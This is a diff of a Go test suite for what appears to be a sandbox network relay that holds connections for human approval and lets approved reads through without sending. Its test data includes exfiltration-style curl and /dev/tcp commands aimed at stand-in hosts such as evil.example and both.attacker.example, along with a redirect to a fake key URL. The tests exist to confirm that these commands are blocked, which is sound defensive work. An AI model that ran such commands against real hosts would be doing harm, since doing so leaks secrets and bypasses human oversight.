@@ -74,6 +74,11 @@ func newOutside(t *testing.T) *outside {
 			w.WriteHeader(http.StatusFound)
 			return
 		}
+		if r.URL.Path == "/elsewhere" {
+			w.Header().Set("Location", "https://evil.example/key")
+			w.WriteHeader(http.StatusFound)
+			return
+		}
 		_, _ = io.WriteString(w, "from outside\n")
 	}))
 	s.TLS, o.roots = certificate(t, "docs.example")
@@ -132,9 +137,9 @@ func (o *outside) all() (names, dialled, heard []string) {
 	return slices.Clone(o.names), slices.Clone(o.dialled), slices.Clone(o.heard)
 }
 
-func (o *outside) options(connect relay.Connect) relay.Options {
+func (o *outside) options(decide relay.Let) relay.Options {
 	return relay.Options{
-		Connect: connect,
+		Let: decide,
 		Resolve: func(_ context.Context, host string) ([]netip.Addr, error) {
 			o.note(&o.names, host)
 			o.mu.Lock()
@@ -233,8 +238,8 @@ func TestAConnectionIsHeldUntilAPersonAnswers(t *testing.T) {
 		asks <- a
 		return <-answer
 	}))
-	j := w.Start(b, "exec 3<>/dev/tcp/web.acme.example/80; echo hello >&3; while read -r l <&3 || [ -n \"$l\" ]; do echo \"$l\"; done")
-	if a := <-asks; a.Host != "web.acme.example" || a.Port != 80 || a.Program != "bash" {
+	j := w.Start(b, "exec 3<>/dev/tcp/web.acme.example/22; echo hello >&3; while read -r l <&3 || [ -n \"$l\" ]; do echo \"$l\"; done")
+	if a := <-asks; a.Host != "web.acme.example" || a.Port != 22 || a.Verb != relay.Connect || a.Program != "bash" {
 		t.Errorf("%+v", a)
 	}
 	if names, dialled, heard := o.all(); len(names)+len(dialled)+len(heard) > 0 {
@@ -246,7 +251,7 @@ func TestAConnectionIsHeldUntilAPersonAnswers(t *testing.T) {
 		t.Errorf("%d %q", code, out)
 	}
 	names, dialled, heard := o.all()
-	if !slices.Equal(names, []string{"web.acme.example"}) || !slices.Equal(dialled, []string{"8.8.8.8:80"}) || !slices.Equal(heard, []string{"hello\n"}) {
+	if !slices.Equal(names, []string{"web.acme.example"}) || !slices.Equal(dialled, []string{"8.8.8.8:22"}) || !slices.Equal(heard, []string{"hello\n"}) {
 		t.Errorf("%v %v %q", names, dialled, heard)
 	}
 }
@@ -320,10 +325,10 @@ func TestAYesToANameIsNoneToPrivateAddresses(t *testing.T) {
 	if _, dialled, heard := o.all(); len(dialled)+len(heard) > 0 {
 		t.Errorf("outside: %v %v", dialled, heard)
 	}
-	if code, out := w.In(b, "curl -sS http://both.attacker.example/"); code != 0 {
+	if code, out := w.In(b, "curl -sSk https://both.attacker.example/"); code != 0 {
 		t.Errorf("%d %s", code, out)
 	}
-	if _, dialled, _ := o.all(); !slices.Equal(dialled, []string{"8.8.4.4:80"}) {
+	if _, dialled, _ := o.all(); !slices.Equal(dialled, []string{"8.8.4.4:443"}) {
 		t.Errorf("dialled: %v", dialled)
 	}
 }
@@ -404,6 +409,63 @@ func TestAHostThatMayBeReadIsOnlyRead(t *testing.T) {
 	}
 	if len(a.all()) == 0 {
 		t.Error("nobody was asked about what cannot be looked into")
+	}
+}
+
+// A yes to reading lets nothing through that sends, nor does one to another host; and what only reads is asked about as such.
+func TestAYesToReadingIsNoneToSending(t *testing.T) {
+	boxtest.Needs(t, "curl")
+	o, a := newOutside(t), &asked{}
+	w, b := boxWith(t, o.options(func(_ context.Context, ask relay.Ask) relay.Decision {
+		a.take(ask)
+		return relay.Decision{Allow: ask.Verb == relay.Read && ask.Host == "docs.example", Why: "the owner said no"}
+	}))
+	for _, line := range []string{"curl -sSf -H 'Cookie: key' -A key http://docs.example/a", "curl -sSf --noproxy '*' -u key:key http://docs.example/a"} {
+		if code, out := w.In(b, line); code != 0 || !strings.Contains(out, "from outside") {
+			t.Errorf("%s: %d %s", line, code, out)
+		}
+	}
+	for _, line := range []string{
+		"curl -sSf -d key http://docs.example/b", "curl -sSf --noproxy '*' -d key http://docs.example/b", "curl -sSf -X DELETE http://docs.example/b",
+		"curl -sSf -X GET -d key http://docs.example/b", "curl -sSfk https://docs.example/b", "curl -sSf http://docs.example:8080/b",
+		"curl -sSf http://docs.example/$(head -c 3000 /dev/zero | tr '\\0' a)", "curl -sSf http://evil.example/b",
+		"curl -sSf --noproxy '*' -H 'Host: docs.example' http://evil.example/b", "curl -sSf -H 'Upgrade: x' -H 'Connection: upgrade' http://docs.example/b",
+	} {
+		if code, out := w.In(b, line); code == 0 {
+			t.Errorf("%s: %s", line, out)
+		}
+	}
+	_, _, heard := o.all()
+	for _, h := range heard {
+		if !strings.HasPrefix(h, "GET /a ") || strings.Contains(h, "key") {
+			t.Errorf("heard: %s", h)
+		}
+	}
+	if len(heard) != 2 {
+		t.Errorf("heard %d", len(heard))
+	}
+}
+
+// A redirect to another host is a question of its own; one within the host that is read is read.
+func TestARedirectElsewhereIsAskedAbout(t *testing.T) {
+	boxtest.Needs(t, "curl")
+	o, a := newOutside(t), &asked{}
+	w, b := boxWith(t, o.options(func(_ context.Context, ask relay.Ask) relay.Decision {
+		a.take(ask)
+		return relay.Decision{Allow: ask.Verb == relay.Read && ask.Host == "docs.example", Why: "the owner said no"}
+	}))
+	if code, out := w.In(b, "curl -sSfL http://docs.example/away"); code != 0 || !strings.Contains(out, "from outside") {
+		t.Errorf("%d %s", code, out)
+	}
+	if code, out := w.In(b, "curl -sSfL http://docs.example/elsewhere"); code == 0 || !strings.Contains(out, "evil.example:443 was refused") {
+		t.Errorf("%d %s", code, out)
+	}
+	asks := a.all()
+	if last := asks[len(asks)-1]; last.Host != "evil.example" || last.Verb != relay.Connect {
+		t.Errorf("asked %+v", asks)
+	}
+	if names, _, _ := o.all(); slices.Contains(names, "evil.example") {
+		t.Error("its name was asked outside")
 	}
 }
 
